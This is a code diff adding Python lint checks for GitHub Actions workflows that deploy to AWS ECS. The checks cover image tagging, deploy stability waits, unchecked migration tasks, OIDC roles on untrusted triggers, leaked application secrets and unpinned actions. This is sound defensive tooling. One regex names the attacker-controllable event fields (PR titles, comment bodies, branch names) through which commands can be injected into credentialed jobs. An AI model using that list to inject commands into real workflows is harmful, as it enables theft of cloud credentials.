+                refs = [w for w in words[1:] if not w.startswith("-")]
+                for r in refs[:1]:
+                    out.append((wm.resolve(r, job, st, github=github, line=c.line), st,
+                                st.run_path, c.line))
+            elif words[:2] == ["buildx", "build"] or words[:1] == ["build"]:
+                tags = [words[i + 1] for i, w in enumerate(words[:-1]) if w in ("-t", "--tag")]
+                tags += [w.split("=", 1)[1] for w in words if w.startswith("--tag=")]
+                if "--push" in words:
+                    for t in tags:
+                        out.append((wm.resolve(t, job, st, github=github, line=c.line), st,
+                                    st.run_path, c.line))
+                for t in tags:
+                    built[t] = c
+    return out
+
+
+def _deployed_images(job, github):
+    """[(resolved ref, step, path, line)] of the images a deploying job deploys."""
+    out = []
+    renders = [st for st in job.steps if st.uses == wm.ECS_RENDER]
+    for st in renders:
+        img = st.with_.get("image")
+        if isinstance(img, str):
+            out.append((wm.resolve(img, job, st, github=github), st, st.path + ("with", "image"),
+                        None))
+    if out:
+        return out, False
+    cli = [d for d in job.deploys() if d.command is not None]
+    if not cli:
+        return [], False
+    for st in job.steps:
+        for c in wm.commands(st):
+            if c.name != "jq":
+                continue
+            filt = " ".join(a for a in c.argv[1:] if not a.startswith("-"))
+            if "image" not in filt:
+                continue
+            argv = c.argv
+            for i, a in enumerate(argv[:-2]):
+                if a in ("--arg", "--argjson") and re.search(
+                        r"image\"?\s*(?:\|?=|:)\s*\$" + re.escape(argv[i + 1]) + r"\b", filt):
+                    out.append((wm.resolve(argv[i + 2], job, st, github=github, line=c.line),
+                                st, st.run_path, c.line))
+    return out, True
+
+
+@check(kinds=("workflow",), rules=(IMAGE_LATEST.id,))
+def image_latest(doc, ctx):
+    wf = _workflow(doc)
+    github = ctx.config.github
+    for job in _live_jobs(wf):
+        if not job.deploys():
+            continue
+        deployed, via_cli = _deployed_images(job, github)
+        pushes = _pushes(job, github)
+        for jid in wm.needs_closure(wf, job.id):
+            pushes += _pushes(wf.jobs[jid], github)
+        if not deployed and via_cli:
+            # the CLI deploys what the task definition names: the pushed image
+            kinds = [image_pin(p[0]) for p in pushes]
+            if pushes and all(k in ("latest", "untagged") for k in kinds):
+                ref, st, path, line = pushes[0]
+                yield _latest_problem(doc, job, ref, image_pin(ref), st, path, line,
+                                      "deploys through the AWS CLI and pushes only")
+            continue
+        reported = set()
+        for ref, st, path, line in deployed:
+            kind = image_pin(ref)
+            if kind not in ("latest", "untagged") or ref in reported:
+                continue
+            reported.add(ref)
+            where = next(((p_st, p_path, p_line) for p_ref, p_st, p_path, p_line in pushes
+                          if p_ref == ref), (st, path, line))
+            yield _latest_problem(doc, job, ref, kind, *where, verb="deploys")
+
+
+def _latest_problem(doc, job, ref, kind, st, path, line, verb):
+    what = "`:latest`" if kind == "latest" else "no tag (so `:latest`)"
+    span = wm.script_span(doc, st, line) if line is not None else None
+    return Problem(IMAGE_LATEST.id, path,
+                   f"job '{job.id}' {verb} image '{ref}' with {what}: nobody can tell which "
+                   "commit runs, and a rollback redeploys the same moving tag",
+                   help="tag the image with the commit (`${{ github.sha }}`) or deploy it by "
+                        "digest; an extra `:latest` tag beside it is fine", span=span)
+
+
+# --- deploy action --------------------------------------------------------------
+
+
+@check(kinds=("workflow",), rules=(STABILITY_WAIT_OFF.id, STABILITY_WAIT_SHORT.id))
+def stability_wait(doc, ctx):
+    wf = _workflow(doc)
+    minimum = ctx.option(STABILITY_WAIT_SHORT.id, "min-minutes")
+    for job in _live_jobs(wf):
+        for st in job.steps:
+            if st.uses != wm.ECS_DEPLOY or not st.with_.get("service"):
+                continue
+            wait = wm._truthy(st.with_.get("wait-for-service-stability"))
+            if wait is False:
+                yield Problem(STABILITY_WAIT_OFF.id, st.path + ("uses",),
+                              "amazon-ecs-deploy-task-definition updates the service without "
+                              "`wait-for-service-stability: true`: a deploy that never gets "
+                              "healthy, or is rolled back, still passes",
+                              help="set `wait-for-service-stability: true` and "
+                                   f"`wait-for-minutes: {minimum}` or more")
+            elif wait is True:
+                minutes = _number(st.with_.get("wait-for-minutes"))
+                if minutes is not None and minutes < minimum:
+                    yield Problem(STABILITY_WAIT_SHORT.id, st.path + ("with", "wait-for-minutes"),
+                                  f"`wait-for-minutes: {st.with_.get('wait-for-minutes')}` is "
+                                  f"below {minimum}: a slow but healthy rollout times out and "
+                                  "fails the deploy",
+                                  help=f"wait {minimum} to 20 minutes (the action's default "
+                                       "is 30)")
+
+
+def _number(v):
+    if isinstance(v, bool):
+        return None
+    if isinstance(v, (int, float)):
+        return v
+    if isinstance(v, str):
+        try:
+            return float(v.strip())
+        except ValueError:
+            return None
+    return None
+
+
+# --- migrations -------------------------------------------------------------------
+
+_FAIL_TESTS = ("[", "[[", "test")
+
+
+@check(kinds=("workflow",), rules=(MIGRATION_UNCHECKED.id,))
+def migrations(doc, ctx):
+    wf = _workflow(doc)
+    for job in _live_jobs(wf):
+        for st in job.steps:
+            if st.uses == wm.ECS_DEPLOY and wm._truthy(st.with_.get("run-task")) is True:
+                if wm._truthy(st.with_.get("wait-for-task-stopped")) is not True:
+                    yield Problem(MIGRATION_UNCHECKED.id, st.path + ("uses",),
+                                  "the deploy action runs a task (`run-task: true`) without "
+                                  "`wait-for-task-stopped: true`: its exit code is never checked",
+                                  help="set `wait-for-task-stopped: true`; the action then fails "
+                                       "on a non-zero exit code")
+            for c in wm.commands(st):
+                if not is_aws(c, "ecs", "run-task"):
+                    continue
+                waited, checked = _run_task_followed(job, st, c)
+                if waited and checked:
+                    continue
+                missing = ("waits for the task to stop nor checks its exit code"
+                           if not waited and not checked else
+                           "waits for the task to stop" if not waited else
+                           "checks the container exit code")
+                yield Problem(MIGRATION_UNCHECKED.id, st.run_path,
+                              f"`aws ecs run-task` starts a task but the job never {missing}"
+                              .replace("never waits for the task to stop nor", "neither waits "
+                                       "for the task to stop nor"),
+                              help="after run-task: `aws ecs wait tasks-stopped`, then read "
+                                   "`tasks[0].containers[0].exitCode` with `aws ecs "
+                                   "describe-tasks` and `exit 1` when it is not 0",
+                              span=wm.script_span(doc, st, c.line))
+
+
+def _run_task_followed(job, step, run_cmd):
+    """(waited, checked) for the commands after a run-task, in this and later steps."""
+    waited = checked = False
+    exit_vars = set()  # variables holding describe-tasks output (with exit codes)
+    chain = set()  # command indexes (in their step) reading describe-tasks output
+    saw_exit_code = False
+    for st in job.steps[step.index:]:
+        cmds = wm.commands(st)
+        chain = set()
+        for c in cmds:
+            if st is step and c.index <= run_cmd.index:
+                continue
+            service, op, rest = aws_operation(c)
+            text = " ".join(c.argv)
+            if service == "ecs" and op == "wait" and rest[:1] == ["tasks-stopped"]:
+                waited = True
+            reads = (c.pipe_from in chain) or any(_mentions(text, v) for v in exit_vars) \
+                or any(_mentions(v2, v) for v2 in c.assigns.values() for v in exit_vars) \
+                or any(i.parent == c.index and i.index in chain for i in cmds)
+            if service == "ecs" and op == "describe-tasks":
+                if c.in_loop:
+                    waited = True
+                reads = True
+            if not reads:
+                if saw_exit_code and _fails(c, exit_vars):
+                    checked = True
+                continue
+            chain.add(c.index)
+            mentions_exit = "exitcode" in text.lower()
+            if mentions_exit:
+                saw_exit_code = True
+            if c.captured_by:
+                exit_vars.add(c.captured_by)
+            for k in c.assigns:
+                exit_vars.add(k)
+            if mentions_exit and c.name == "jq" and any(a in ("-e", "--exit-status")
+                                                         or (a.startswith("-") and not
+                                                             a.startswith("--") and "e" in a)
+                                                         for a in c.argv[1:]):
+                checked = True
+            if saw_exit_code and (_fails(c, exit_vars) or (
+                    c.name in _FAIL_TESTS and not c.in_condition and not c.negated
+                    and any(i.parent == c.index and i.index in chain for i in cmds))):
+                checked = True
+        if waited and checked:
+            break
+        if st is step and not _hands_on(step, run_cmd):
+            break  # later steps cannot know which task was started
+    return waited, checked
+
+
+def _hands_on(step, run_cmd):
+    """Does the step pass the task it started to later steps ($GITHUB_OUTPUT/$GITHUB_ENV)?"""
+    var = run_cmd.captured_by
+    if not var:
+        return False
+    written = list(wm.step_outputs(step).values()) + list(wm.env_writes(step).values())
+    return any(_mentions(w.value, var) for w in written)
+
+
+def _mentions(text, var):
+    return bool(re.search(r"\$\{?" + re.escape(var) + r"\b", text or ""))
+
+
+def _fails(c, exit_vars):
+    """A command that makes the step fail when the exit code is bad."""
+    if c.name == "exit":
+        arg = c.argv[1] if len(c.argv) > 1 else ""
+        return arg not in ("", "0")
+    if c.name == "false" and (c.guarded or c.in_condition is False):
+        return True
+    if c.name == "return" and len(c.argv) > 1 and c.argv[1] != "0":
+        return True
+    if c.name in _FAIL_TESTS and not c.in_condition and not c.negated:
+        return any(_mentions(a, v) for a in c.argv for v in exit_vars)
+    return False
+
+
+# --- triggers -----------------------------------------------------------------------
+
+_READ_ONLY_ROLE = re.compile(r"read[-_]?only|readonly|(?:^|[-_/])ro$|(?:^|[-_/])plan(?:$|[-_])",
+                             re.I)
+
+
+@check(kinds=("workflow",), rules=(UNTRUSTED_TRIGGER.id, OIDC_ON_PULL_REQUEST.id))
+def oidc_triggers(doc, ctx):
+    wf = _workflow(doc)
+    for job in _live_jobs(wf):
+        oidc = [ru for ru in job.role_uses() if ru.oidc]
+        if not oidc:
+            continue
+        events = wm.job_events(wf, job)
+        ru = oidc[0]
+        path = ru.step.path + ("uses",) if ru.step.uses else ru.path
+        bad = sorted(events & {"pull_request_target", "workflow_run"})
+        if bad and job.id_token_write:
+            yield Problem(UNTRUSTED_TRIGGER.id, path,
+                          f"job '{job.id}' can mint an OIDC token and assumes "
+                          f"{_role_text(ru)} on `{bad[0]}`, which runs with the base "
+                          "repository's trust for changes from forks: the pull request's author "
+                          "can reach the role",
+                          help="run the AWS part on `push`/`pull_request` only, or split it into "
+                               "a job without checkout of untrusted code and behind an "
+                               "environment with reviewers")
+        if "pull_request" in events:
+            role = ru.role_to_assume if isinstance(ru.role_to_assume, str) else ""
+            if role and _READ_ONLY_ROLE.search(role.rsplit("/", 1)[-1].split("}")[0].strip()):
+                continue
+            yield Problem(OIDC_ON_PULL_REQUEST.id, path,
+                          f"job '{job.id}' assumes {_role_text(ru)} on `pull_request`: code "
+                          "from any branch's pull request runs with the deploy role",
+                          help="assume deploy roles on `push` to protected branches or in an "
+                               "environment with reviewers; give pull requests a read-only role")
+
+
+# --- configure-aws-credentials inputs --------------------------------------------------
+
+_LITERAL_ACCOUNT = re.compile(r"arn:aws[a-z-]*:iam::(\d{12}):")
+
+
+@check(kinds=("workflow",), rules=(REGION_MISSING.id, ACCOUNT_ID_HARDCODED.id))
+def credential_inputs(doc, ctx):
+    wf = _workflow(doc)
+    for job in _live_jobs(wf):
+        for st in job.steps:
+            if st.uses == wm.CONFIGURE_CREDENTIALS:
+                region = st.with_.get("aws-region")
+                if region is None or (isinstance(region, str) and not region.strip()):
+                    yield Problem(REGION_MISSING.id, st.path + ("uses",),
+                                  "configure-aws-credentials has no `aws-region` input (it is "
+                                  "required; an AWS_REGION env variable does not replace it): "
+                                  "the step fails",
+                                  help="add `aws-region: ${{ env.AWS_REGION }}` under `with:`")
+            ru = wm.assumes_role(st)
+            if ru is None or not isinstance(ru.role_to_assume, str):
+                continue
+            for row in job.matrix_rows():
+                value = wm.expand(ru.role_to_assume, job, st, row)
+                m = _LITERAL_ACCOUNT.search(value) if isinstance(value, str) else None
+                if m:
+                    yield Problem(ACCOUNT_ID_HARDCODED.id, ru.path,
+                                  f"the role ARN holds the literal account id {m.group(1)}",
+                                  help="keep the role ARN in a repository or environment "
+                                       "variable: `role-to-assume: ${{ vars.DEPLOY_ROLE_ARN }}`")
+                    break
+
+
+# --- secrets and injection ----------------------------------------------------------------
+
+_SECRET_REF = re.compile(r"\bsecrets\s*\.\s*([A-Za-z0-9_-]+)")
+_APP_SECRET = re.compile(
+    r"PASSWORD|PASSWD|PASSPHRASE|(?:^|_)PWD$|(?:^|_)DB_|DATABASE|POSTGRES|MYSQL|MONGO|REDIS|"
+    r"SECRET_KEY|SECRET_KEY_BASE|APP_SECRET|API_?KEY|API_TOKEN|PRIVATE_KEY|JWT|CLIENT_SECRET|"
+    r"ENCRYPTION|SIGNING|SMTP|STRIPE|TWILIO|SENDGRID|OPENAI|ANTHROPIC|CLERK|AUTH0|"
+    r"MAPS_API|FIREBASE|SUPABASE|MAILGUN|PUSHER|ALGOLIA", re.I)
+_CI_SECRET = re.compile(
+    r"^(AWS_|GITHUB|GH_|ACTIONS_)|SLACK|SONAR|CODECOV|NPM_TOKEN|DOCKER|SENTRY_AUTH|"
+    r"ROLE|ACCOUNT|SUBNET|(?:^|_)SG(?:_|$)|SECURITY_GROUP|ECR|ECS|CLUSTER|(?:^|_)SERVICE|REGION|"
+    r"DEPLOY_KEY|SSH|(?:^|_)PAT$|REGISTRY|KUBE|TERRAFORM|TF_|CODEDEPLOY", re.I)
+
+
+def _is_app_secret(name):
+    return bool(_APP_SECRET.search(name)) and not _CI_SECRET.search(name)
+
+
+@check(kinds=("workflow",), rules=(APP_SECRET_IN_GITHUB.id,))
+def app_secrets(doc, ctx):
+    wf = _workflow(doc)
+    for job in _live_jobs(wf):
+        if not (job.deploys() or job.role_uses()):
+            continue
+        places = [(job.path + ("env", k), v) for k, v in job.env.items()]
+        for st in job.steps:
+            places += [(st.path + ("env", k), v) for k, v in st.env.items()]
+            places += [(st.path + ("with", k), v) for k, v in st.with_.items()]
+        for path, v in places:
+            if not isinstance(v, str):
+                continue
+            for m in _SECRET_REF.finditer(v):
+                if _is_app_secret(m.group(1)):
+                    yield _app_secret_problem(job, m.group(1), path)
+                    break
+        for st in job.steps:
+            if not isinstance(st.run, str):
+                continue
+            for n, line in enumerate(st.run.splitlines()):
+                for m in _SECRET_REF.finditer(line):
+                    if _is_app_secret(m.group(1)):
+                        yield _app_secret_problem(job, m.group(1), st.run_path,
+                                                  wm.script_span(doc, st, n))
+                        break
+
+
+def _app_secret_problem(job, name, path, span=None):
+    return Problem(APP_SECRET_IN_GITHUB.id, path,
+                   f"job '{job.id}' feeds the application secret `secrets.{name}` into the "
+                   "deploy from GitHub secrets",
+                   help="keep it in AWS Secrets Manager (or SSM) and reference it from the "
+                        "task definition's `secrets` (valueFrom)", span=span)
+
+
+_INJECTABLE = re.compile(
+    r"github\s*\.\s*head_ref"
+    r"|github\.event\.(?:issue|pull_request|discussion)\.(?:title|body)\b"
+    r"|github\.event\.pull_request\.head\.(?:ref|label|repo\.default_branch)\b"
+    r"|github\.event\.(?:comment|review|review_comment)\.body\b"
+    r"|github\.event\.pages\b[^}]*\.page_name\b"
+    r"|github\.event\.(?:commits\b[^}]*|head_commit)\.(?:message|author\.(?:email|name)|"
+    r"committer\.(?:email|name))\b"
+    r"|github\.event\.workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|"
+    r"author\.(?:email|name)))\b"
+    r"|github\.event\.workflow_run\.pull_requests\b[^}]*\.head\.ref\b"
+    r"|github\.event\.(?:release\.(?:name|body)|check_suite\.head_branch|"
+    r"check_run\.check_suite\.head_branch)\b")
+
+
+@check(kinds=("workflow",), rules=(TEMPLATE_INJECTION.id,))
+def template_injection(doc, ctx):
+    wf = _workflow(doc)
+    for job in _live_jobs(wf):
+        if not job.role_uses():
+            continue
+        for st in job.steps:
+            if not isinstance(st.run, str) or "${{" not in st.run:
+                continue
+            hit = None
+            for n, line in enumerate(st.run.splitlines()):
+                for m in wm.EXPR.finditer(line):
+                    bad = _INJECTABLE.search(m.group(1))
+                    if bad:
+                        hit = (n, bad.group(0))
+                        break
+                if hit:
+                    break
+            if hit is None:
+                continue
+            n, what = hit
+            yield Problem(TEMPLATE_INJECTION.id, st.run_path,
+                          f"`${{{{ {what} }}}}` is pasted into the script of a job that holds "
+                          "AWS credentials: whoever writes that text can run commands with them",
+                          help=f"pass it through `env:` (e.g. `VALUE: ${{{{ {what} }}}}`) and "
+                               "use \"$VALUE\" in the script",
+                          span=wm.script_span(doc, st, n))
+
+
+# --- pinning ---------------------------------------------------------------------------------
+
+_FIRST_PARTY = ("actions/", "github/")
+
+
+@check(kinds=("workflow",), rules=(ACTION_UNPINNED.id,))
+def action_pinning(doc, ctx):
+    wf = _workflow(doc)
+    for job in wf.jobs.values():
+        refs = [(job.uses, job.uses_ref, job.path + ("uses",))]
+        refs += [(st.uses, st.uses_ref, st.path + ("uses",)) for st in job.steps]
+        for uses, ref, path in refs:
+            if not uses or uses.startswith(("./", "docker://")) or uses.startswith(_FIRST_PARTY):
+                continue
+            if ref is not None and wm._SHA.match(ref.lower()):
+                continue
+            shown = f"{uses}@{ref}" if ref else uses
+            yield Problem(ACTION_UNPINNED.id, path,
+                          f"`{shown}` is a moving reference: its owner can change the code that "
+                          "runs in this job",
+                          help="pin the full commit SHA and keep the tag as a comment: "
+                               f"`{uses}@<40-hex sha> # {ref or 'tag'}`")
